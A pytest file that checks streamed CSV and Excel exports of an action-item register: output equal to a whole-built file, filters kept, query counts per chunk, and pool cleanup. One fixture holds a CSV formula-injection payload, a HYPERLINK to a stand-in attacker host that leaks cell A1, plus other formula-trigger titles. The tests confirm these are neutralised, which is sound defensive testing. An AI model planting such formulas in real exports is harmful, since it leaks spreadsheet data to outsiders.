"""A long register goes out as it is read: the CSV and the workbook stream, chunk by chunk, and come out exactly as
the whole register built at once would, whatever the filters, at the same cost in queries per chunk."""

import csv
import io
import math
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from jcm.accounts.models import Organization
from jcm.actions.exports import CHUNK, build_csv, build_xlsx
from jcm.actions.models import ActionItem
from jcm.actions.services import RegisterFilter, register_query
from jcm.extensions import db
from tests.perf.bench_exports import seed_action_items
from tests.test_query_counts import counting

ROWS = 2_500  # three chunks
FORMULA = '=HYPERLINK("https://evil.example.com/?leak="&A1,"Click for details")'


@pytest.fixture
def long_register(app, committee, make_meeting):
    """2,500 action items with owners on both sides; the last of the first chunk and the first of the next ones (in
    the order of the references) have titles a spreadsheet would run."""
    meetings = [make_meeting(ordinal=ordinal, start_date=f"{2020 + ordinal}-03-10") for ordinal in (1, 2)]
    seed_action_items(app, committee, ROWS, meetings)
    with app.app_context():
        refs = list(db.session.scalars(select(ActionItem.ref).order_by(ActionItem.ref)))
        edges = {refs[CHUNK - 1]: FORMULA, refs[CHUNK]: "+1 555 0100 call the NSF desk",
                 refs[2 * CHUNK - 1]: "-2 days slip agreed", refs[2 * CHUNK]: "@SUM(A1:A9)"}
        for ref, title in edges.items():
            db.session.execute(update(ActionItem).where(ActionItem.ref == ref).values(title=title))
        db.session.commit()
    return edges


def whole(app, filters: RegisterFilter, build, locale: str = "en") -> bytes:
    """The export as it was made before it streamed: every item loaded, the file built at once."""
    with app.test_request_context():
        items = db.session.scalars(register_query(filters, date.today(), language=locale)).unique().all()
        return build(items, locale, date.today())


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_csv_of_a_long_register_streams_and_is_what_the_whole_register_gives(app, client, auth, committee,
                                                                                  long_register):
    auth.login(committee.us_secretariat)
    response = client.get("/action-items.csv?sort=ref")
    assert response.status_code == 200 and response.is_streamed
    data = response.get_data()
    assert data == whole(app, RegisterFilter(sort="ref"), build_csv)
    rows = rows_of(data)
    assert len(rows) == ROWS + 1 and len({row[0] for row in rows[1:]}) == ROWS
    assert all(row[6] and row[7] for row in rows[1:])  # owners on both sides, in every chunk
    titles = {row[0]: row[1] for row in rows[1:]}
    for ref, title in long_register.items():  # neutralised on either side of a chunk's edge
        assert titles[ref] == "'" + title


def test_the_workbook_of_a_long_register_streams_and_holds_what_the_whole_register_gives(app, client, auth,
                                                                                          committee, long_register):
    auth.login(committee.kr_delegate)
    response = client.get("/action-items.xlsx?sort=ref")
    assert response.status_code == 200 and response.is_streamed
    streamed = load_workbook(io.BytesIO(response.get_data())).active
    built = load_workbook(io.BytesIO(whole(app, RegisterFilter(sort="ref"), build_xlsx))).active
    assert streamed.max_row == ROWS + 1 and streamed.auto_filter.ref == built.auto_filter.ref == f"A1:L{ROWS + 1}"
    assert {k: d.width for k, d in streamed.column_dimensions.items()} == {
        k: d.width for k, d in built.column_dimensions.items()}
    for mine, theirs in zip(streamed.iter_rows(), built.iter_rows(), strict=True):
        assert [(c.value, c.data_type, c.number_format, c.quotePrefix) for c in mine] == [
            (c.value, c.data_type, c.number_format, c.quotePrefix) for c in theirs]
    quoted = {row[0].value for row in streamed.iter_rows(min_row=2) if row[1].quotePrefix}
    assert set(long_register) <= quoted


def test_a_streamed_export_keeps_the_registers_filters(app, client, auth, committee, long_register):
    auth.login(committee.kr_secretariat)
    with app.app_context():
        nrf = db.session.scalar(select(Organization.id).where(Organization.acronym == "NRF"))
    for query, filters in [
        ("status=done,dropped&sort=-due", RegisterFilter(status=["done", "dropped"], sort="-due")),
        (f"owner=organization:{nrf}&side=KR", RegisterFilter(owner_organization=nrf, side="KR")),
        ("overdue=true&sort=title", RegisterFilter(overdue=True, sort="title")),
        ("q=quantum", RegisterFilter(q="quantum")),
    ]:
        streamed = client.get(f"/action-items.csv?{query}").get_data()
        expected = whole(app, filters, build_csv)
        assert streamed == expected, query
        assert 1 < len(rows_of(streamed)) < ROWS + 1, query  # the filter chose some items, not all


def test_the_export_costs_the_same_queries_for_each_chunk(app, client, auth, committee, make_action_item):
    auth.login(committee.us_secretariat)

    def statements(path: str) -> int:
        with counting(app) as seen:
            response = client.get(path)
            assert response.status_code == 200
            response.get_data()
        return len(seen)

    make_action_item("The only item")
    one = {kind: statements(f"/action-items.{kind}") for kind in ("csv", "xlsx")}
    seed_action_items(app, committee, ROWS - 1)
    chunks = math.ceil(ROWS / CHUNK)
    for kind in ("csv", "xlsx"):
        assert statements(f"/action-items.{kind}") == one[kind] + (chunks - 1), kind  # one for each chunk's owners


def test_the_streams_connection_goes_back_to_the_pool_once_sent_or_abandoned(app, client, auth, committee,
                                                                             long_register):
    auth.login(committee.us_secretariat)
    with app.app_context():
        pool = db.engine.pool
    whole_response = client.get("/action-items.csv")
    assert len(whole_response.get_data()) > 0
    assert pool.checkedout() == 0
    abandoned = client.get("/action-items.csv", buffered=False)
    blocks = iter(abandoned.response)
    header, first_chunk = next(blocks), next(blocks)
    assert header.startswith(b"\xef\xbb\xbf") and first_chunk.count(b"\r\n") == CHUNK
    assert pool.checkedout() == 1  # the register is being read
    abandoned.close()  # the reader went away after the first chunk
    assert pool.checkedout() == 0
    assert client.get("/action-items").status_code == 200  # and the site reads on


def test_what_many_items_share_is_read_once_and_still_right_when_there_is_more_than_is_kept(
        app, client, auth, committee, make_meeting, monkeypatch):
    """The focus area, origin meeting and owners of an item are read once for all the items that share them; past
    the few it keeps, an export starts again, and every row still says what the whole register built at once says,
    in English and in Korean."""
    from jcm.actions import exports

    meetings = [make_meeting(ordinal=ordinal, start_date=f"{2020 + ordinal}-03-10") for ordinal in (1, 2, 3)]
    seed_action_items(app, committee, 400, meetings)
    auth.login(committee.kr_secretariat)
    for kept in (exports.SHARED_VALUES, 2):
        monkeypatch.setattr(exports, "SHARED_VALUES", kept)
        for locale in ("en", "ko"):
            language = {"Accept-Language": locale}
            streamed = client.get("/action-items.csv?sort=ref", headers=language)
            assert streamed.headers["Content-Language"] == locale
            rows = rows_of(streamed.get_data())
            assert rows == rows_of(whole(app, RegisterFilter(sort="ref"), build_csv, locale)), (kept, locale)
            assert len(rows) == 401
            assert len({row[6] for row in rows[1:]}) > 2 * 2  # more U.S. owners than two kept: started again
            sheet = load_workbook(io.BytesIO(client.get("/action-items.xlsx?sort=ref", headers=language)
                                             .get_data())).active
            built = load_workbook(io.BytesIO(whole(app, RegisterFilter(sort="ref"), build_xlsx, locale))).active
            assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
                [cell.value for cell in row] for row in built.iter_rows()], (kept, locale)
